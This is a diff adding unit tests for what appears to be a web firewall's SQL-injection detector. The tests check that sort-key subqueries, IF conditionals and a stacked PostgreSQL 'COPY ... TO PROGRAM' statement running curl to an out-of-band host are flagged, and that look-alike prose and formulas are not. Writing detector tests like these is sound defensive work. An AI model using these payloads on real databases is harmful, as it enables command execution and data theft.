@@ -171,3 +171,21 @@ describe('the character soup injection tools append (sqlmap heuristic check)', (
     for (const v of ['5\'10" tall', 'print("\'")', 'wait..."really?"', 'sizes (S, M, L) "new"', ":'( sad", '"\'...\'"', '("a","b")']) expect(syntaxProbe(v), v).toBe(-1)
   })
 })
+
+describe('SQL a sort key or a stacked statement carries', () => {
+  const found = (v: string): string[] => {
+    const out: Finding[] = []
+    detectSqli({ value: v, lower: v.toLowerCase(), kind: 'json', level: 2 }, out)
+    return out.map((f) => f.rule)
+  }
+
+  it('reads SELECT CASE WHEN, IF over two constants and PostgreSQL COPY … TO PROGRAM as SQL', () => {
+    expect(found('price ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)')).toEqual(['waf.sqli.subquery'])
+    expect(found('IF(1=1,price,name)')).toEqual(['waf.sqli.boolean'])
+    expect(found("1; COPY (SELECT '') TO PROGRAM 'curl http://x.oast.fun'--")).toEqual(['waf.sqli.stacked-query'])
+  })
+
+  it('leaves their look-alikes in prose and formulas alone', () => {
+    for (const v of ['Please copy (the invoice) to my accountant; copy to me too', '=IF(A1>5,"yes","no")', 'if(x==1, a, b)', 'select case when ordering a gift']) expect(found(v), v).toEqual([])
+  })
+})
